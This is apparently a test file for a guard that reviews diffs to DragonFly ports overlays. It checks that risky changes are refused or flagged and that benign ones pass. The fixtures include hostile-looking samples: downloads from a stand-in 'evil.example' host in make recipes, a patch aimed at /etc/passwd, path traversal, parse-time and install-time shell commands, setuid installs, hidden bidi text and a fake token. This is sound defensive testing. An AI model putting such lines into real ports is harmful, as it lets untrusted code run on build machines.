import {readFileSync} from 'node:fs';
import {guardDiff} from '../../../src/case/guard/index.ts';
import {ADJUSTABLE} from '../../../src/case/guard/rules.ts';

const HOME = 'ports/net/foo';

/** A diff that takes lines away and puts others in their place; `mode` of the new file. */
function change(path: string, removed: readonly string[], added: readonly string[], mode = '100644'): string {
  const fresh = removed.length === 0;
  return [
    `diff --git a/${path} b/${path}`,
    ...(fresh ? [`new file mode ${mode}`, 'index 0000000..1111111'] : ['index 1111111..2222222 100644']),
    fresh ? '--- /dev/null' : `--- a/${path}`,
    `+++ b/${path}`,
    `@@ -${fresh ? 0 : 1},${removed.length} +1,${added.length} @@`,
    ...removed.map((line) => `-${line}`),
    ...added.map((line) => `+${line}`),
    '',
  ].join('\n');
}

const found = (diff: string): string[] =>
  guardDiff(diff, 'net/foo', {failedPatches: new Set()})
    .filter(({severity}) => severity !== 'note')
    .map(({rule, severity}) => `${severity} ${rule}`);
const make = (...lines: string[]): string => change(`${HOME}/Makefile.DragonFly`, [], lines);
const dops = (...lines: string[]): string => change(`${HOME}/overlay.dops`, [], lines);
const patch = (...lines: string[]): string =>
  change(`${HOME}/dragonfly/patch-a.c`, [], ['--- a.c.orig', '+++ a.c', '@@ -1 +1 @@', ...lines]);
const plist = (...lines: string[]): string =>
  change(
    `${HOME}/diffs/pkg-plist.diff`,
    [],
    ['--- pkg-plist.orig', '+++ pkg-plist', '@@ -1 +1,2 @@', ...lines.map((line) => `+${line}`)],
  );

test.each<[string, string, string]>([
  ['BROKEN by overlay.dops', dops('mk set BROKEN "does not build"'), 'refuse hiding'],
  [
    'IGNORE in a line put in by overlay.dops',
    dops('text line-insert-after file Makefile anchor "USES= x" line "IGNORE= no"'),
    'refuse hiding',
  ],
  ['a port that overlay.dops masks', dops('type mask'), 'refuse hiding'],
  ['a value that goes on in the next line', make('NO_CHECKSUM\\', '=yes'), 'refuse hiding'],
  ['fewer checksums', make('CHECKSUM_ALGORITHMS=\tsize'), 'refuse hiding'],
  ['checks for security holes switched off', make('DISABLE_VULNERABILITIES=yes'), 'refuse hiding'],
  ['distinfo edited by overlay.dops', dops('text replace-once file distinfo from "a" to "b"'), 'refuse distinfo'],
  ['distinfo replaced by overlay.dops', dops('file copy files/d -> distinfo'), 'refuse distinfo'],
  ['a diff of distinfo under its own name', change(`${HOME}/diffs/distinfo.diff`, [], ['+x']), 'refuse distinfo'],
  [
    'a patch of a file of the host',
    change(`${HOME}/dragonfly/patch-x`, [], ['--- /etc/passwd', '+++ /etc/passwd']),
    'refuse patch-path',
  ],
  ['a patch that climbs', change(`${HOME}/dragonfly/patch-x`, [], ['--- a', '+++ ../../x']), 'refuse patch-path'],
  ['attributes of git', change(`${HOME}/.gitattributes`, [], ['* filter=x']), 'refuse git-file'],
  ['STATUS', change(`${HOME}/STATUS`, [], ['MASK']), 'refuse status'],
  ['crates from elsewhere', make('CARGO_CRATES=\tevil-1.0'), 'ask downloads'],
  ['a download in a recipe', make('post-extract:', '\tcurl -o x https://evil.example/x'), 'ask network'],
  ['fetch of the base system', make('post-extract:', '\tfetch http://evil.example/x'), 'ask network'],
  ['an own do-patch', make('do-patch:', '\t@${DO_NADA}'), 'ask check-target'],
  ['an own do-install by overlay.dops', dops("mk target set do-install <<'MK'", '\t${TRUE}', 'MK'), 'ask check-target'],
  ['a command whose failure does not count', make('post-patch:', '\t${CP} a b || true'), 'ask errors-ignored'],
  ['a command that make may fail', make('post-patch:', '\t-${CP} a b'), 'ask errors-ignored'],
  ['make that goes on', make('MAKE_ARGS+=\t-k'), 'ask errors-ignored'],
  ['noise: warnings off', make('CFLAGS+=\t-Wno-int-conversion -Wno-error=x'), 'ask compiler-silenced'],
  ['all warnings off', make('CFLAGS+= -O2 -w'), 'ask compiler-silenced'],
  ['warnings off by overlay.dops', dops('mk add CFLAGS -fpermissive'), 'ask compiler-silenced'],
  ['warnings off in the source', patch('+#pragma GCC diagnostic ignored "-Wall"'), 'ask compiler-silenced'],
  ['another system played by a flag', make('CFLAGS+=\t-D__FreeBSD__=13'), 'ask reserved-macro'],
  [
    'another value than USES=alias stood for',
    change(`${HOME}/overlay.dops`, ['mk add USES alias'], ['mk add CFLAGS "-D__FreeBSD__=13"']),
    'ask reserved-macro',
  ],
  [
    'the flag of USES=alias, which stays',
    change(`${HOME}/overlay.dops`, ['mk add USES alias'], ['mk add USES "alias ssl"', 'mk add CFLAGS "-D__FreeBSD__=9"']),
    'ask reserved-macro',
  ],
  ['the flag of USES=alias, which was not there', dops('mk add CFLAGS "-D__FreeBSD__=9"'), 'ask reserved-macro'],
  ['a reserved macro of a flag', make('CPPFLAGS+= -D_KERNEL_STRUCTURES'), 'ask reserved-macro'],
  ['another system played in the source', patch('+#define __FreeBSD__ 13'), 'ask reserved-macro'],
  ['the compiler denied in the source', patch('+# undef __GNUC__'), 'ask reserved-macro'],
  ['a command at parse time', make('X!=\tid'), 'ask runs-when-read'],
  ['a command at parse time by overlay.dops', dops('mk shell X "id"'), 'ask runs-when-read'],
  ['a command in a modifier', make('X=\t${:!id!}'), 'ask runs-when-read'],
  ['another shell', make('.SHELL: name=x path=/tmp/x'), 'ask runs-when-read'],
  ['a name put together', make('${:UBROK}${:UEN}=\tyes'), 'ask computed-name'],
  ['an assignment in a modifier', make('X:=\t${BROKEN::=yes}'), 'ask computed-name'],
  ['a Makefile of the host', make('.include "/etc/x.mk"'), 'ask include'],
  ['a Makefile of another port', make('.include "${.CURDIR}/../bar/Makefile"'), 'ask include'],
  ['another version', make('DISTVERSION=\t2.0'), 'ask identity'],
  ['another licence', make('LICENSE_PERMS=\tauto-accept'), 'ask identity'],
  ['set-uid by install', make('post-install:', '\t${INSTALL_PROGRAM} -m 4755 a b'), 'ask privileges'],
  ['set-uid in the packing list', plist('@(root,wheel,4755) bin/x'), 'ask privileges'],
  ['a command at installation', plist('@postexec /bin/sh -c id'), 'ask install-script'],
  ['a script at installation', change(`${HOME}/files/pkg-install.in`, [], ['#!/bin/sh']), 'ask install-script-file'],
  [
    'a patch edited as text by overlay.dops',
    dops('text replace-once file files/patch-terminal.c from "++" to "+"'),
    'ask patch-edited-by-op',
  ],
  ['text that goes the other way', make('X=\ta\u202eb'), 'ask hidden-text'],
  ['a token', make(`X=\tghp_${'aB3'.repeat(12)}`), 'ask secret'],
  ['an escape sequence', make('X=\ta\u001b[2Kb'), 'ask hidden-text'],
  [
    'more than a person reads',
    change(
      `${HOME}/x`,
      [],
      Array.from({length: 2001}, () => 'a'),
    ),
    'ask large',
  ],
])('%s', (_name, diff, expected) => {
  expect(found(diff)).toContain(expected);
});

test('an overlay that is taken away is asked about', () => {
  const gone = `diff --git a/${HOME}/Makefile.DragonFly b/${HOME}/Makefile.DragonFly\ndeleted file mode 100644\nindex 1..0\n--- a/${HOME}/Makefile.DragonFly\n+++ /dev/null\n@@ -1,LINES +0,0 @@\n`;
  const lines = ['USES+=\tncurses', 'CFLAGS+=\t-I/x', 'dfly-patch:', '\t${TRUE}'];
  const all = gone.replace('LINES', '4') + lines.map((line) => `-${line}\n`).join('');
  expect(found(all)).toEqual(['ask overlay-deleted', 'ask feature-removed']);
  expect(found(`${gone.replace('LINES', '1')}-USES+=\talias\n`)).toEqual([]);
});

test.each<[string, string]>([
  [
    'macros by which sources ask for functions',
    make('CFLAGS+=\t-D_GNU_SOURCE -D_FILE_OFFSET_BITS=64 -D__STDC_FORMAT_MACROS -DNEED_HTOBE32'),
  ],
  ['a fallback for a test of the compiler', patch('+#ifndef __has_builtin', '+#define __has_builtin(x) 0', '+#endif')],
  ['the guard of a header', patch('+#ifndef _FOO_H_', '+#define _FOO_H_')],
  ['a flag that was there before', change(`${HOME}/Makefile.DragonFly`, ['CFLAGS+=\t-Wno-error'], ['CFLAGS+=\t-Wno-error -I/x'])],
  ['grep -w', make('post-patch:', '\t${GREP} -w a ${WRKSRC}/x')],
  ['a comment', make('# BROKEN= once', 'USES+=\tssl')],
  ['a lib that is included by options', make('.include <bsd.port.options.mk>', '.include "${.CURDIR}/Makefile.inc"')],
  ['ordinary targets', make('post-patch:', "\t${REINPLACE_CMD} -e 's/a/b/' ${WRKSRC}/x", '\t@${ECHO_MSG} done')],
  ['a packing list', plist('bin/x', '%%PORTDOCS%%%%DOCSDIR%%/y', '@dir share/z')],
  ['a form feed in old source, and the ends of lines of other systems', patch('+\f', '+a\r')],
  ['a patch with its line in overlay.dops', dops('file materialize dragonfly/patch-a.c -> dragonfly/patch-a.c')],
])('%s: no reason to refuse or to ask', (_name, diff) => {
  expect(found(diff)).toEqual([]);
});

test('rules have names of their own', () => {
  const names = ADJUSTABLE.map(({name}) => name);
  expect(new Set(names).size).toBe(names.length);
});

test('the operator’s guide has each rule with its severity', () => {
  const guide = readFileSync(new URL('../../../docs/operators-guide.md', import.meta.url), 'utf8');
  for (const {name, severity, protects} of ADJUSTABLE) expect(guide).toContain(`| \`${name}\` | ${severity} | ${protects} |`);
});
